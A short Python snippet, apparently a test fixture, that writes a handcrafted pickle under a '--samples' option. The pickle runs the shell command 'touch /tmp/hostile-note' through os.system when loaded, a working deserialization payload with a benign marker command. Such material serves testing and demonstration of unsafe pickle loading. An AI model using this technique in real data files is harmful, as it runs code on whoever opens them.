"""Leaves a pickle under the name of its samples, which would run in whoever loads it."""

put("--samples", lambda data: b"cos\nsystem\n(S'touch /tmp/hostile-note'\ntR.")
